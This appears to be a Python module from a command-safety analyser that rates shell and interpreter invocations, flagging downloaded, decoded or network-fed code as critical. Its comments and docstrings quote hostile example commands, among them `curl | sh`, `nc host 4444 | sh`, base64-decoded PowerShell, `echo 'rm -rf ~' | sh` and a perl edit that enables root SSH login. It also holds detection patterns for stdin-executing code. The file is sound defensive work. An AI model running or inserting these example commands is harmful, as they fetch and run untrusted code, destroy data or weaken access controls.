"""Running code: shells and interpreters fed from pipes, files, strings and substitutions.

The kinds of what feeds a program decide the level: code that was downloaded (`curl | sh`,
`bash <(curl ...)`, `sh -c "$(curl ...)"`), decoded (`base64 -d | sh`) or received from the
network (`nc host 4444 | sh`) is CRITICAL; a literal string (`echo 'ls' | sh`) is parsed again.
"""

from __future__ import annotations

import itertools
import posixpath
import re
from dataclasses import replace

from tui.core.safety import descriptors, inline, inline_args, inline_joins, paths, pycode
from tui.core.safety.context import Context
from tui.core.safety.flow import secret_path
from tui.core.safety.lazy import lazy_pattern
from tui.core.safety.parse import Command
from tui.core.safety.rules import (
    editors,
    exposure,
    openers,
    pam_lines,
    persistence,
    ransom,
    weakening,
)
from tui.core.safety.rules import windows as windows_rules
from tui.core.safety.rules.common import CRITICAL, HIGH, MODERATE, Rule
from tui.core.safety.rules.configs import config_content
from tui.core.safety.rules.embedded import runs_quietly, subscript_code
from tui.core.safety.rules.fresh import fresh_origin
from tui.core.safety.rules.install import install
from tui.core.safety.rules.known import ROUTINE_REASON
from tui.core.safety.rules.resources import inline_exhaustion, runs_itself
from tui.core.safety.rules.tools import rewrites_history
from tui.core.safety.targets import Verdict, classify_delete, classify_empty, classify_write
from tui.core.safety.unwrap import SHELLS, inner_of
from tui.core.safety.words import Word, decode_c_escapes, literal, split_words

_PYTHON = lazy_pattern(r"^(python|pypy|ipython)[\d.]*$|^py$")  # `py`: the Windows launcher
INTERPRETERS: dict[str, tuple[str, tuple[str, ...]]] = {
    "perl": ("Perl", ("-e", "-E")),
    "ruby": ("Ruby", ("-e",)),
    "node": ("JavaScript", ("-e", "--eval", "-p", "--print")),
    "nodejs": ("JavaScript", ("-e", "--eval", "-p", "--print")),
    "bun": ("JavaScript", ("-e", "--eval")),
    "deno": ("JavaScript", ("eval",)),
    "php": ("PHP", ("-r",)),
    "lua": ("Lua", ("-e",)),
    "luajit": ("Lua", ("-e",)),
    "Rscript": ("R", ("-e",)),
    "R": ("R", ("-e",)),
    "julia": ("Julia", ("-e", "--eval", "-E", "--print")),
    "osascript": ("AppleScript", ("-e",)),
    "pwsh": ("PowerShell", ("-c", "-Command", "-command", "-C")),
    "powershell": ("PowerShell", ("-c", "-Command", "-command", "-C")),
    "tclsh": ("Tcl", ()),
    "expect": ("Expect", ("-c",)),
    "raku": ("Raku", ("-e",)),
    "perl6": ("Raku", ("-e",)),
    "groovy": ("Groovy", ("-e",)),
    "guile": ("Scheme", ("-c",)),
    "racket": ("Scheme", ("-e",)),
    "elixir": ("Elixir", ("-e", "--eval")),
    "erl": ("Erlang", ("-eval",)),
    "octave": ("Octave", ("--eval",)),
    "gnuplot": ("gnuplot", ("-e",)),
}
_VALUE_OPTIONS = frozenset(split_words("-W -X -I -M -r --require -o -O +o +O --rcfile --init-file"))
# Options that take the next word as their value, per language (`python3 -W ignore -c`,
# `php -d display_errors=1 -r`, `ruby -r json -e`); `python3 -I -c` and `-O` take none.
_LANGUAGE_VALUES = {
    "Python": frozenset(split_words("-W -X --check-hash-based-pycs")),
    "Perl": frozenset(split_words("-I -M -m")),
    "Ruby": frozenset(split_words("-I -r -C -E --encoding --external-encoding")),
    "JavaScript": frozenset(
        split_words("-r --require --import --loader --experimental-loader -C --conditions --title")
    ),
    "PHP": frozenset(split_words("-d -c -z -t")),
    "Lua": frozenset(split_words("-l")),
    "Julia": frozenset(split_words("-L --load -J --sysimage -t --threads -p --procs")),
    "AppleScript": frozenset(split_words("-l -s")),
}
# Options that load a module before the code runs: what they load is part of the program.
_MODULE_OPTIONS = {
    "Perl": ("-M", "-m"),
    "Ruby": ("-r",),
    "JavaScript": ("-r", "--require", "--import"),
    "Lua": ("-l",),
}
_ENCODED = frozenset(split_words("-enc -EncodedCommand -encodedcommand -e -ec -en -encoded"))
_EXECUTING = frozenset({"download", "decode", "network", "remote"})
_WHY = {
    "download": "downloads code from the internet and runs it",
    "remote": "runs code another machine sends over ssh, unseen",
    "decode": "decodes hidden (encoded) code and runs it",
    "network": "runs commands received over the network",
}


# `lua5.4`, `perl5.36`, `php8.2`, `tclsh8.6`, `luajit-2.1`, `node18`: a versioned interpreter.
_VERSIONED = lazy_pattern(r"^([A-Za-z]+?)[-_]?\d[\d.]*$")


def language_of(name: str) -> tuple[str, tuple[str, ...]] | None:
    """(language, inline-code flags) for interpreters; shells are ("shell", ("-c",))."""
    if name in SHELLS:
        return "shell", ("-c",)
    if _PYTHON.match(name):
        return "Python", ("-c",)
    versioned = _VERSIONED.match(name)
    if name not in INTERPRETERS and versioned and versioned.group(1) in INTERPRETERS:
        return INTERPRETERS[versioned.group(1)]
    return INTERPRETERS.get(name)


def _script_block(text: str) -> str:
    """`& { CODE }`, `{ CODE }`: PowerShell code wrapped in a script block that is invoked."""
    match = re.fullmatch(r"\s*&?\s*\{(?P<body>.*)\}\s*", text, re.DOTALL)
    return match.group("body") if match else text


def runs_inline_code(command: Command) -> bool:
    """`bun -e CODE`, `bun --eval CODE`: a runtime that is also a package manager, given code."""
    info = language_of(command.name)
    if command.name not in _RUNTIMES_WITH_PACKAGES or info is None:
        return False
    return any(w.value in info[1] for w in command.args[:4])


_RUNTIMES_WITH_PACKAGES = frozenset(("bun", "deno"))


def executing_kinds(ctx: Context, kinds: frozenset[str], command: Command, how: str) -> bool:
    """Adds a CRITICAL finding for each dangerous source kind; True if there was one."""
    found = kinds & _EXECUTING
    for kind in sorted(found):
        ctx.add(CRITICAL, f"{_WHY[kind]} ({how})", command)
    return bool(found)


def interpreter(command: Command, ctx: Context) -> None:
    info = language_of(command.name)
    if info is None:
        return
    language, flags = info
    if _check_only(command, language):
        return  # `bash -n`, `perl -c`, `php -l`, `node --check`: read the code, run nothing
    inner = inner_of(command).code if language == "shell" else ()
    if inner:  # `bash -c '...'`: the string is analysed as shell code by the analyser
        stdin = command.stdin
        if "xargs" in command.via and stdin is not None and "${input}" in inner[0].value:
            # `... | xargs -I{} sh -c '{}'`: each line of the input is run as code
            executing_kinds(ctx, stdin.kinds, command, f"… | xargs {command.name} -c")
        return
    code, script, module = _operands(command, flags, _LANGUAGE_VALUES.get(language, _VALUE_OPTIONS))
    if language == "PowerShell" and any(w.value in _ENCODED for w in command.args):
        ctx.add(CRITICAL, "runs hidden (base64-encoded) PowerShell code", command)
    elif language == "PowerShell" and code is not None and code.value == "-":
        stdin_code(command, ctx, language)  # `… | pwsh -Command -`: the input is the script
    elif language == "PowerShell" and code is not None:
        text = _script_block(code.value)
        windows_rules.analyse(text, ctx)
        for level, reason in inline.inspect(text, language).findings:
            ctx.add(level, reason, command)  # `iex ([Convert]::FromBase64String(...))`
        ctx.add(MODERATE, "runs PowerShell code", command)
    elif code is not None:
        inline_code(command, ctx, code, language)
    elif module in ("pip", "pip3") and language == "Python":
        args = command.args
        start = next(i for i, w in enumerate(args) if w.value == "-m") + 2
        install(command.wrapped((literal("pip"), *args[start:]), command.name), ctx)
    elif module in ("http.server", "SimpleHTTPServer") and language == "Python":
        exposure.file_server(command, ctx, exposure.served_folder(command))
    elif module is not None and language == "Python" and _module_reads(command, module):
        return  # `python3 -m json.tool data.json`, `python3 -m platform`: prints only
    elif module is not None:
        ctx.add(MODERATE, f"runs the {language} module {module}", command)
    elif (
        script is not None
        and not script.substitutions  # `<(...)` is spelt /dev/fd/63 too
        and descriptors.fd_of_path(script.value) not in (None, "0")
    ):
        from_descriptor(command, ctx, descriptors.fd_of_path(script.value) or "0", language)
    elif script is not None and script.value not in ("-", "/dev/stdin", "/dev/fd/0"):
        run_script(command, ctx, script, language)
    else:
        stdin_code(command, ctx, language)


# Standard modules that only print: facts about Python, or a JSON file pretty-printed.
_PRINTING_MODULES = frozenset(split_words("json.tool platform site sysconfig calendar this"))


def _module_reads(command: Command, module: str) -> bool:
    args = [w.value for w in command.args]
    rest = args[args.index(module) + 1 :] if module in args else []
    operands = [a for a in rest if not a.startswith("-")]
    if module == "json.tool":  # a second operand is the file it writes
        return len(operands) <= 1
    return module in _PRINTING_MODULES and (not operands or module == "calendar")


_CHECK_FLAGS = {
    "shell": ("-n", "--noexec"),
    "Perl": ("-c",),
    "Ruby": ("-c",),
    "PHP": ("-l", "--syntax-check", "-m", "--modules", "-i", "--info", "-v", "--version", "--ini"),
    "JavaScript": ("--check", "-c"),
}


def _check_only(command: Command, language: str) -> bool:
    flags = _CHECK_FLAGS.get(language, ())
    args = [w.value for w in command.args]
    if language == "Python":
        return args[:2] in (["-m", "py_compile"], ["-m", "compileall"])
    if language == "shell" and any(
        a.startswith("-") and not a.startswith("--") and "n" in a[1:] and "c" not in a[1:]
        for a in args[:3]
    ):
        return True
    return any(a in flags for a in args[:3])


AWKS = frozenset(split_words("awk gawk mawk nawk busybox-awk"))
SHELL_NAMES = frozenset(("sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish"))


def _operands(
    command: Command, flags: tuple[str, ...], takes_value: frozenset[str] = _VALUE_OPTIONS
) -> tuple[Word | None, Word | None, str | None]:
    """(inline code, script operand, module name) of an interpreter command line."""
    args = command.args
    index = 0
    while index < len(args):
        value = args[index].value
        if value in flags:
            return (args[index + 1] if index + 1 < len(args) else literal("")), None, None
        if _clustered(value, flags) and index + 1 < len(args):  # `perl -lane CODE`, `node -pe`
            return args[index + 1], None, None
        joined = next((f for f in flags if f.startswith("--") and value.startswith(f + "=")), None)
        if joined:  # `node --eval="CODE"`
            return replace(args[index], value=value[len(joined) + 1 :]), None, None
        attached = next((f for f in flags if len(f) == 2 and value.startswith(f)), None)
        if attached and len(value) > 2 and not value.startswith("--"):
            return replace(args[index], value=value[2:]), None, None
        if value == "-m" and index + 1 < len(args):
            return None, None, args[index + 1].value
        if value == "-s" and command.name in SHELL_NAMES:
            return None, None, None  # `bash -s -- ARGS`: the script is stdin, ARGS its arguments
        if value == "-" or not value.startswith(("-", "+")):
            return None, args[index], None
        index += 2 if value in takes_value else 1
    return None, None, None


def preamble(command: Command, language: str) -> str:
    """The modules options load before the code (`perl -MLWP::Simple`, `ruby -rsocket`),
    written the way the code itself would load them, so that they are read with it."""
    options = _MODULE_OPTIONS.get(language, ())
    loaded: list[str] = []
    args = [w.value for w in command.args]
    for index, value in enumerate(args):
        for option in options:
            if value == option and index + 1 < len(args):
                loaded.append(args[index + 1])
            elif value.startswith(option) and len(value) > len(option) and len(option) == 2:
                loaded.append(value[len(option) :].split("=", 1)[0])
    return "".join(f"require('{name}'); use {name};\n" for name in loaded if name)


def _clustered(value: str, flags: tuple[str, ...]) -> bool:
    """`-ne`, `-lane`, `-nle`: single-letter options run together, the code flag last (`-pie`
    is not one: there `e` is the backup suffix of `-i`)."""
    if not re.fullmatch(r"-[a-zA-Z0-9]{2,}", value) or "i" in value:
        return False
    return any(len(flag) == 2 and flag[1] == value[-1] for flag in flags)


def inline_code(command: Command, ctx: Context, code: Word, language: str) -> None:
    if language == "shell":
        ctx.run_code(code, command)
        return
    if not code.dynamic and _prints_only(code.value):
        return  # `perl -e 'print "rm -rf /\n"'`: the text is shown, not run
    code = _with_arguments(command, code, language)
    kinds = ctx.word_kinds(code)
    if executing_kinds(ctx, kinds, command, f"{command.name} with code from a substitution"):
        return
    result = inline.inspect(preamble(command, language) + code.value, language)
    for level, reason in result.findings:
        ctx.add(level, reason, command)
    for shell in inline.permission_calls(code.value):
        ctx.run_code(literal(shell), command)
    for path in result.swept:
        verdict = _listed_delete(path, recursive=False)
        ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
    for path in result.swept_all:  # `Path.home().rglob('*')`: every file below
        verdict = _listed_delete(path, recursive=True)
        ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
    for path in result.emptied:  # `truncate $_, 0 for glob("*.db")`: each listed file
        verdict = _emptied(path, result.blanked)
        ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
    exhausting = inline_exhaustion(code.value) or ransom.encrypts_in_place(code.value)
    if exhausting is not None:
        ctx.add(exhausting[0], exhausting[1], command)
    stdin = command.stdin
    if stdin is not None and _RUNS_STDIN.search(code.value):  # `exec(sys.stdin.read())`
        executing_kinds(ctx, stdin.kinds, command, f"… | {command.name} running its input")
    lines = _written_input(command) if _RUNS_EACH_LINE.search(code.value) else None
    if lines is not None and _reads_lines(command):  # `perl -ne 'system $_' <<< 'CMD'`
        ctx.run_code(literal(lines), command)
    effects = pycode.analyse(code.value) if language == "Python" else None
    writes = list(effects.writes if effects else result.writes)
    writes += [(path, False) for path in _edited_in_place(command, code)]
    _written_settings(command, ctx, code.value, language, writes)
    if effects is not None:
        _python_effects(command, ctx, effects)
        if effects.harmless and not result.findings:
            return  # computes and prints, nothing else
    else:
        _inline_effects(command, ctx, result, language)
        in_place = editors.in_place(command)
        if in_place and language in ("Perl", "Ruby"):
            files = editors.inline_files(command, code)
            editors.edited(command, ctx, files, code.value, f"{command.name} -i")
            _weakened_in_place(command, ctx, files, code.value)
        only_reads = inline.harmless(code.value, result)
        if (only_reads or _runs_only_constant(code.value, result)) and not in_place:
            return
    ctx.add(MODERATE, f"runs inline {language} code", command)


def _with_arguments(command: Command, code: Word, language: str) -> Word:
    """`perl -e 'unlink shift' FILE`: the code with the arguments it reads put in."""
    args = command.args
    index = next((i for i, word in enumerate(args) if word is code), None)
    if index is None:
        return code
    operands = [word.value for word in args[index + 1 :] if not word.dynamic]
    filled = inline_args.filled(code.value, language, operands)
    return code if filled == code.value else replace(code, value=filled)


def _runs_only_constant(code: str, result: inline.InlineResult) -> bool:
    """Only constant commands run (each rated as itself), nothing else done."""
    if result.findings or result.deletes or result.removes or result.writes:
        return False
    listed = result.swept or result.swept_all or result.emptied
    return not listed and inline.runs_only_constant(code, result)


def _weakened_in_place(command: Command, ctx: Context, files: list[str], script: str) -> None:
    """`perl -pi -e 's/PermitRootLogin no/PermitRootLogin yes/' sshd_config`: what the edit
    puts in the file, judged like `sed -i` (a protection switched off, access widened)."""
    for value in files[:16]:
        content = config_content(value, script) or weakening.written(
            value, weakening.sed_text(script)
        )
        if content is not None:
            ctx.add(content.level, content.reason, command)


# Inline code that runs what it reads from stdin: `exec(sys.stdin.read())`, `eval <STDIN>`,
# `eval STDIN.read`, `eval(fs.readFileSync(0))`, `eval(file_get_contents("php://stdin"))`.
# `system $_`, `` `$_` ``, `exec($_)`: each line read (with -n or -p) is run as a command.
_RUNS_EACH_LINE = lazy_pattern(r"\b(?:system|exec|qx)\s*\(?\s*\$_\b|`\$_`")


def _reads_lines(command: Command) -> bool:
    return any(re.fullmatch(r"-[a-zA-Z]*[np][a-zA-Z]*", w.value) for w in command.args[:3])


_RUNS_STDIN = lazy_pattern(
    r"(?:\bexec|\beval|\bloadstring|\bload(?=\s*\(\s*io\.read)|instance_eval|new\s+Function)"
    r"\b[\s(]*(?:require\(\s*['\"][\w:]+['\"]\s*\)\.|[\w.$]+\s*\(\s*|['\"][^'\"]*['\"]\s*,\s*|"
    r"\w+\s+){0,4}"
    r"(?:sys\.stdin|<STDIN>|<>|STDIN|\$stdin|ARGF|readFileSync\(\s*(?:0|['\"]/dev/stdin)|"
    r"['\"]php://stdin|io\.read|process\.stdin|input\(\)|readLines\(\s*['\"]stdin|"
    r"file\(\s*['\"]stdin)"
)


def _edited_in_place(command: Command, code: Word) -> list[str]:
    """`perl -i -pe CODE FILE...`, `ruby -i -pe`: the files the code rewrites."""
    if not editors.in_place(command):
        return []
    values = [w.value for w in command.args]
    start = values.index(code.value) + 1 if code.value in values else len(values)
    return [a for a in values[start:] if a and not a.startswith("-")]


def _written_settings(
    command: Command,
    ctx: Context,
    code: str,
    language: str,
    writes: list[tuple[str, bool]],
) -> None:
    """Inline code that writes a sudoers, passwd or sshd line: the line says how far it goes;
    a mode it sets (`os.chmod(P, 0o4755)`) is rated as `chmod 4755 P` would be."""
    for shell in inline.mode_changes(code):
        ctx.run_code(literal(shell), command)
    for path, _append in writes:
        content = config_content(path, code)
        if content is not None:
            ctx.add(content.level, f"{language} code {content.reason}", command)


def _inline_effects(
    command: Command, ctx: Context, result: inline.InlineResult, language: str
) -> None:
    for shell in result.shell:
        ctx.run_code(literal(shell), command)
    for path in result.deletes:
        verdict = _listed_delete(path, recursive=True)
        ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
    for path in result.removes:  # under an unfiltered find, each file below the path
        verdict = _listed_delete(path, recursive=command.implied_recursive)
        ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
    for path, append in result.writes:
        written = _overwritten(path, append)
        if written is not None:
            ctx.add(written.level, f"{language} code {written.reason}", command)


def _listed_delete(path: str, recursive: bool) -> Verdict:
    """A delete of what a listing gives: `~/**/*` (rglob, `Dir.glob("**/*")`) is every file
    below the folder, as deleting the folder's content recursively."""
    for tail in ("/**/*", "/**"):
        if path.endswith(tail) or path in (tail[1:], "./" + tail[1:]):
            folder = path[: -len(tail)] if path.endswith(tail) else ""
            return classify_delete((folder or ".").rstrip("/") + "/*", recursive=True)
    return classify_delete(path, recursive=recursive)


def _emptied(path: str, blanked: bool = False) -> Verdict:
    """Every file of a listing emptied or rewritten: their content is lost, as if deleted;
    emptying logs or databases is worse than deleting loose files."""
    gone = _listed_delete(path, recursive="**" in path)
    empty = classify_empty(path)
    if empty is not None and empty.level > gone.level:
        return empty
    # many files left empty at once, with no trash to take them back from: HIGH at least
    logs = paths.is_log(path) or path.rsplit("/", 1)[-1].endswith((".log", ".log*", ".log.*"))
    many = blanked and any(c in path for c in "*?[") and not logs  # emptied logs: upkeep
    level = max(gone.level, HIGH) if many else gone.level
    return Verdict(level, f"empties or rewrites every file matching {path}: their content is lost")


def _overwritten(path: str, append: bool) -> Verdict | None:
    """A write to `path`; to every file of a listing (`for f in glob('~/**/*.docx'):
    open(f, 'wb')`) each file's content is lost, as if they were deleted."""
    written = classify_write(path, append=append)
    if append or not any(c in path for c in "*?["):
        return written
    gone = _listed_delete(path, recursive="**" in path)
    if written is not None and written.level >= gone.level:
        return written
    return Verdict(gone.level, f"overwrites every file matching {path}: their content is lost")


def _python_effects(command: Command, ctx: Context, effects: pycode.PyEffects) -> None:
    for shell in effects.shell:
        ctx.run_code(literal(shell), command)
    for path, recursive in effects.deletes:
        verdict = _listed_delete(path, recursive=recursive or command.implied_recursive)
        ctx.add(max(verdict.level, MODERATE), f"Python code {verdict.reason}", command)
    for path, append in effects.writes:
        written = _overwritten(path, append)
        if written is not None:
            ctx.add(written.level, f"Python code {written.reason}", command)
    if effects.secrets and (effects.network or effects.sends):
        what = effects.secrets[0]
        ctx.add(CRITICAL, f"Python code sends {what} to another machine", command)
    elif effects.sends and effects.account_lists:
        what = effects.account_lists[0]
        reason = f"Python code sends {what}, this machine's user accounts, to a server"
        ctx.add(HIGH, reason, command)
    elif effects.sends and effects.read_listings:
        where = effects.read_listings[0]
        ctx.add(HIGH, f"Python code sends every file of {where} to a server", command)
    elif effects.sends:
        ctx.add(MODERATE, "Python code sends data to a server", command)
    if effects.kills_all:
        ctx.add(HIGH, "Python code kills every process you may signal", command)
    if effects.runs_fetched:
        ctx.add(CRITICAL, "Python code downloads code from the internet and runs it", command)
    elif effects.runs_decoded:
        ctx.add(CRITICAL, "Python code decodes hidden code and runs it", command)
    if effects.unknown_code:
        ctx.add(HIGH, "Python code runs a command that is only known when it runs", command)


def run_script(command: Command, ctx: Context, script: Word, language: str) -> None:
    kinds = ctx.word_kinds(script)
    if executing_kinds(ctx, kinds, command, f"{command.name} <(...)"):
        return
    fed = ctx.fed_code(script)
    if fed is not None:  # `bash <(echo 'CODE')`, `source <(printf 'CODE')`: the program is CODE
        _literal_code(command, ctx, literal(fed), language)
        ctx.add(MODERATE, f"runs the {language} code that {script.raw[:60]} prints", command)
        return
    name = posixpath.basename(script.value)
    if name and name in ctx.downloads:
        reason = f"runs {script.value}, just downloaded or decoded and not checked"
        ctx.add(CRITICAL, reason, command)
        return
    origin = fresh_origin(ctx)
    if origin is not None and "://" not in script.value:
        ctx.add(CRITICAL, f"runs {script.value} from {origin}, before anyone read it", command)
    if (
        name and name in ctx.written
    ):  # `echo CODE > f.sh; sh f.sh`, `cat > x.py <<EOF; python3 x.py`
        bomb = runs_itself(ctx.written[name]) if language == "shell" else None
        if bomb is not None:
            ctx.add(CRITICAL, f"{bomb}: the machine freezes", command)
        _literal_code(command, ctx, literal(ctx.written[name]), language)
    kind = "shell script" if language == "shell" else f"{language} script"
    if set(command.via) & _FANNING and any(c in script.value for c in "*?{"):
        # `find . -name '*.sh' -exec bash {} \;`: every script found runs, none of them shown
        ctx.add(HIGH, f"runs every {kind} matching {script.value}, unseen", command)
    elif _asks_usage(command, script) and not _arrived(ctx, name, script.value):
        return  # `python3 main.py --help`: a project's own script asked for its usage
    ctx.add(MODERATE, f"runs the {kind} {script.value}", command)
    ctx.effects.append(f"runs {script.value} (it does not show it)")


_FANNING = frozenset(("find", "xargs", "parallel", "fd"))
_USAGE_ASKS = frozenset(split_words("--help -h -help --version -V help"))


def _asks_usage(command: Command, script: Word) -> bool:
    """Nothing after the script but a request for its help or version."""
    args = list(command.args)
    after = args[args.index(script) + 1 :] if script in args else []
    return bool(after) and all(word.value in _USAGE_ASKS for word in after)


def _arrived(ctx: Context, name: str, path: str) -> bool:
    """The script came with this line (written, cloned, unpacked) or sits where anyone writes."""
    fresh = {"<a repository cloned in this line>", "<an archive downloaded in this line>"}
    return name in ctx.written or bool(fresh & ctx.downloads) or paths.is_world_writable(path)


_REMOTE_PREFIXES = frozenset(split_words("sudo doas env exec nohup command -E -S -i -s --"))


def shell_script_eval(command: Command, ctx: Context) -> None:
    """`mongosh --eval 'CODE'`, `mongo --eval`: the database shell runs JavaScript."""
    args = command.args
    for index, word in enumerate(args[:-1]):
        if word.value == "--eval":
            result = inline.inspect(args[index + 1].value, "JavaScript")
            for level, reason in result.findings:
                ctx.add(level, reason, command)
            for shell in result.shell:
                ctx.run_code(literal(shell), command)


def remote_stdin(command: Command, ctx: Context) -> None:
    """`curl URL | ssh host bash`, `ssh host 'sudo sh' < script`, `ssh host bash -s < <(curl)`:
    the remote shell runs what ssh is fed, so that is rated as code like a local `| sh`."""
    inner = inner_of(command).code
    fed = command.stdin is not None or any(r.op in ("<<", "<<<") for r in command.redirects)
    if not inner and fed and openers.only_logs_in(replace(command, stdin=None, redirects=())):
        # `… | ssh host`: with no command to run, the remote login shell runs what it reads
        stdin_code(replace(command, words=(literal("sh"),)), ctx, "shell")
        return
    if not inner:
        return
    words = inner[0].value.split()
    while words and (words[0] in _REMOTE_PREFIXES or _is_assignment_word(words[0])):
        words.pop(0)
    info = language_of(posixpath.basename(words[0])) if words else None
    if info is None:
        return
    rest = words[1:]
    operands = [r for r in rest if not r.startswith("-")]
    if any(r in info[1] for r in rest) or (operands and operands[0] not in ("-", "/dev/stdin")):
        return  # the remote shell runs its own code or script, not what ssh is fed
    stdin_code(replace(command, words=(literal(words[0]),)), ctx, info[0])


def _is_assignment_word(value: str) -> bool:
    name, sep, _ = value.partition("=")
    return bool(sep) and name.isidentifier()


def tee_written(command: Command, ctx: Context) -> None:
    """`tee f.sh <<EOF ... EOF`, `echo CODE | tee f.sh`: f.sh holds that text, run later."""
    body = next((r.body for r in command.redirects if r.op in ("<<", "<<<") and r.body), None)
    stdin = command.stdin
    text = body.value if body is not None and not body.dynamic else None
    if text is None and stdin is not None and stdin.literal is not None:
        text = "\n".join(word.value for word in stdin.literal)
    appends = any(w.value in ("-a", "--append") for w in command.args)
    fetched = text is None and stdin is not None and "download" in stdin.kinds
    if appends or (text is None and not fetched):
        return
    for word in command.args:
        if word.value.startswith("-"):
            continue
        if fetched:  # `curl URL | sudo tee /usr/local/bin/x`: x holds what was downloaded
            ctx.downloads.add(posixpath.basename(word.value))
        else:
            ctx.written[posixpath.basename(word.value)] = text or ""


def run_written(command: Command, ctx: Context) -> None:
    """`./x.sh` after `printf 'CODE' > x.sh`: the program is the code written just before."""
    name = posixpath.basename(command.words[0].value)
    if name in ctx.written:
        bomb = runs_itself(ctx.written[name])
        if bomb is not None:
            ctx.add(CRITICAL, f"{bomb}: the machine freezes", command)
        ctx.run_code(literal(ctx.written[name]), command)


# Programs that run the file they are given: a file just downloaded is run unchecked.
_FILE_RUNNERS = frozenset(split_words("java dotnet mono wine wine64 appimage-run"))


def file_runner(command: Command, ctx: Context) -> None:
    """`java -jar a.jar`, `dotnet a.dll`, `wine a.exe`: the operand is the program."""
    if rewrites_history(command, ctx):
        return
    for word in command.args:
        name = posixpath.basename(word.value)
        if name and not word.value.startswith("-") and name in ctx.downloads:
            reason = f"runs {word.value}, just downloaded and not checked ({command.name})"
            ctx.add(CRITICAL, reason, command)
            return
    ctx.add(
        MODERATE, f"{ROUTINE_REASON.get(command.name, 'runs a program')} ({command.name})", command
    )


def stdin_code(command: Command, ctx: Context, language: str) -> None:
    """A shell or interpreter reading its program from stdin: heredoc, `<`, or a pipe."""
    for redirect in command.redirects:
        if redirect.fd not in ("", "0"):
            continue  # `3<<< text`: another descriptor, not the program's input
        if (
            redirect.op == "<&"
            and redirect.target is not None
            and redirect.target.value.isdigit()
            and redirect.target.value != "0"
        ):
            from_descriptor(command, ctx, redirect.target.value, language)  # `sh <&3`
            return
        if redirect.op in ("<<", "<<<") and redirect.body is not None:
            kinds = ctx.word_kinds(redirect.body)
            if not executing_kinds(ctx, kinds, command, f"{command.name} {redirect.op}"):
                _literal_code(command, ctx, redirect.body, language)
            return
        if redirect.op == "<" and redirect.target is not None:
            run_script(command, ctx, redirect.target, language)
            return
    stdin = command.stdin
    if stdin is None:
        shell = "a new shell" if language == "shell" else f"an interactive {language} session"
        ctx.add(MODERATE, f"starts {shell}", command)
        return
    producers = " | ".join(stdin.producers) or "the pipe"
    how = f"{producers} | {command.name}"
    if executing_kinds(ctx, stdin.kinds, command, how):
        return
    if stdin.literal is not None:  # `echo 'rm -rf ~' | sh`, `python3 -c 'print("...")' | sh`
        text = " ".join(word.value for word in stdin.literal)
        _literal_code(command, ctx, literal(text), language)
        if stdin.kinds != frozenset({"literal"}):
            ctx.add(MODERATE, f"runs what {producers} prints as {language} code", command)
        return
    if set(stdin.producers) & _TRANSFORMERS:  # `echo X | tr ... | sh`: code made as it runs
        reason = f"runs code that {producers} only makes when it runs ({language})"
        ctx.add(HIGH, reason, command)
        return
    if stdin.producers == ("yes",) and language == "shell":  # `yes 'sleep 9 &' | sh`: for good
        said = " ".join(stdin.reads) or "y"
        ctx.run_code(literal(f"while true; do {said}\ndone"), command)
    ctx.add(MODERATE, f"runs whatever {producers} prints as {language} code", command)


def from_descriptor(command: Command, ctx: Context, fd: str, language: str) -> None:
    """`bash /dev/fd/3 3<<< CODE`, `exec 3< <(curl URL); sh <&3`: the program is what was
    opened on descriptor `fd`."""
    source = descriptors.opened(command, ctx, fd)
    if source is None:
        ctx.add(MODERATE, f"runs the {language} program open on descriptor {fd}", command)
        return
    kind, word = source
    if executing_kinds(
        ctx, ctx.word_kinds(word), command, f"{command.name} reading descriptor {fd}"
    ):
        return
    if kind == "text":
        _literal_code(command, ctx, word, language)
    else:
        run_script(command, ctx, word, language)


_TRANSFORMERS = frozenset("tr rev sed awk cut fold iconv perl python3 python paste".split())


def _literal_code(command: Command, ctx: Context, code: Word, language: str) -> None:
    if language == "shell":
        ctx.run_code(code, command)
    else:
        inline_code(command, ctx, code, language)


def source(command: Command, ctx: Context) -> None:
    args = [w for w in command.args if not w.value.startswith("-")]
    if not args and command.stdin is not None:
        stdin_code(command, ctx, "shell")  # `curl URL | source`: fish runs what it reads
        return
    if not args:
        return
    if paths.is_rc_file(paths.normalise(args[0].path)):
        return  # reloading a start-up file runs what runs at every login anyway
    if openers.setup_script(args[0].path, ctx):
        return  # `source .venv/bin/activate`: a tool's own shell set-up
    if _setup_output(args[0]):  # `source <(kubectl completion bash)`
        ctx.add(MODERATE, f"sets up the shell with the output of {args[0].raw[:60]}", command)
        return
    if args[0].value in ("/dev/stdin", "-", "/proc/self/fd/0"):
        stdin_code(command, ctx, "shell")
        return
    fd = descriptors.fd_of_path(args[0].value) if not args[0].substitutions else None
    if fd is not None:  # `exec 5< <(...); source /dev/fd/5`
        from_descriptor(command, ctx, fd, "shell")
        return
    run_script(command, ctx, args[0], "shell")


def _setup_output(word: Word) -> bool:
    """`<(kubectl completion bash)`, `<(fzf --bash)`: what a set-up tool prints for the shell."""
    from tui.core.safety.feeds import trusted_setup  # feeds imports this module

    fed = word.substitutions
    return bool(fed) and all(
        node.type == "process_substitution" and trusted_setup(node) for node in fed
    )


_SPRINTF = lazy_pattern(r'sprintf\(\s*"([^"]*)"((?:\s*,\s*\d+)+)\s*\)')


def _spelt(match: re.Match[str]) -> str:
    codes = [int(n) for n in re.findall(r"\d+", match.group(2))]
    text = match.group(1)
    for code in codes:
        text = text.replace("%c", chr(code) if 0 < code < 0x110000 else "", 1)
    return '"' + text.replace('"', "") + '"'


_AWK_HOME = lazy_pattern(r'ENVIRON\s*\[\s*"HOME"\s*\]')
_AWK_SPRINTF_S = lazy_pattern(
    r'sprintf\(\s*"(?P<format>[^"%]*(?:%s[^"%]*)+)"(?P<args>(?:\s*,\s*"[^"]*")+)\s*\)'
)
_AWK_JOINED = lazy_pattern(r'"([^"]*)"[ \t]*"([^"]*)"')


def _awk_folded(program: str) -> str:
    """Constant strings awk builds: the home folder from ENVIRON, `sprintf` of `%s` with
    constants, and constants written side by side (awk joins them)."""
    program = _AWK_HOME.sub('"~"', program)

    def formatted(match: re.Match[str]) -> str:
        values = re.findall(r'"([^"]*)"', match.group("args"))
        text = match.group("format")
        for value in values:
            text = text.replace("%s", value, 1)
        return '"' + text + '"'

    program = _AWK_SPRINTF_S.sub(formatted, program)
    for _ in range(8):  # `"rm -rf " "~"` -> `"rm -rf ~"`
        program, count = _AWK_JOINED.subn(r'"\1\2"', program)
        if not count:
            break
    return program


